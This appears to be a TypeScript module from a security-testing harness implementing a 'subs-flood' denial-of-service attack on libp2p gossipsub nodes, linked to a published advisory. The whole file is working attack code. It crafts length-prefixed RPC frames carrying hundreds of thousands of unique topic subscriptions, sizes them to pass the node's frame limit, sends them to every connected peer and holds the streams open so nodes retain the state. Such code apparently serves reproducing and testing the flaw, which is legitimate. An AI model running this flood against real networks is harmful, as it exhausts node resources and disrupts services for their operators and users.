// subs-flood: raw gossipsub RPC frames that subscribe to hundreds of thousands of unique topics
// (26 MiB of subscriptions per node), written straight onto a /meshsub stream to every target,
// then held open so the node keeps them. Subscriptions to unknown topics are legal gossipsub;
// what a node does with half a million of them is the question (GHSA-4f8r-922h-2vgv).

import { randomBytes } from 'node:crypto'
import { RPC } from '@chainsafe/libp2p-gossipsub/message'
import { type Attack, mib } from './context.ts'

const TOTAL_BYTES = 26 * 1024 * 1024
/** Under the node's 10 MiB frame limit, so every frame is read. */
const FRAME_BYTES = 4 * 1024 * 1024
const MESHSUB = '/meshsub/1.1.0'

function varint(n: number): Uint8Array {
  const out: number[] = []
  let v = n
  while (v >= 0x80) {
    out.push((v & 0x7f) | 0x80)
    v = Math.floor(v / 128)
  }
  out.push(v)
  return Uint8Array.from(out)
}

/** Length-prefixed RPC frames subscribing to unique topics, TOTAL_BYTES in all. */
function floodFrames(): { frames: Uint8Array[]; topics: number } {
  const frames: Uint8Array[] = []
  let topics = 0
  let total = 0
  const salt = randomBytes(8).toString('hex')
  while (total < TOTAL_BYTES) {
    const subscriptions: RPC.SubOpts[] = []
    let bytes = 0
    while (bytes < FRAME_BYTES) {
      const topic = `/flood/${salt}/${(topics++).toString(36)}/${randomBytes(12).toString('hex')}`
      subscriptions.push({ subscribe: true, topic })
      bytes += topic.length + 6 // SubOpts framing: two tags, two lengths, the bool
    }
    const rpc = RPC.encode({ subscriptions, messages: [] })
    frames.push(Buffer.concat([varint(rpc.length), rpc]))
    total += rpc.length
  }
  return { frames, topics }
}

let flood: { frames: Uint8Array[]; topics: number } = { frames: [], topics: 0 }

export const subsFlood: Attack = {
  gossip: false,
  async setup() {
    flood = floodFrames() // seconds of work: done before the attack's clock starts
  },
  async run(ctx) {
    const { frames, topics } = flood
    const frameBytes = frames.reduce((sum, f) => sum + f.length, 0)
    let reached = 0
    const describe = () => ctx.describe(`${topics.toLocaleString('en')} unique topic subscriptions in ${frames.length} RPC frames (${mib(frameBytes)}) to each of ${reached} nodes`)
    describe()
    await Promise.all(
      ctx.host.connected().map(async (peer) => {
        const stream = await ctx.host.open(peer, MESHSUB).catch(() => undefined)
        if (!stream) return
        // the frames, then nothing until the attack ends: the node keeps a peer's
        // subscriptions for as long as the peer stays
        const source = (async function* () {
          for (const frame of frames) {
            yield frame
            ctx.sent(1, frame.length)
          }
          reached++
          describe()
          while (ctx.running()) await ctx.sleep(1_000)
        })()
        await stream.sink(source).catch(() => {})
      }),
    )
  },
}
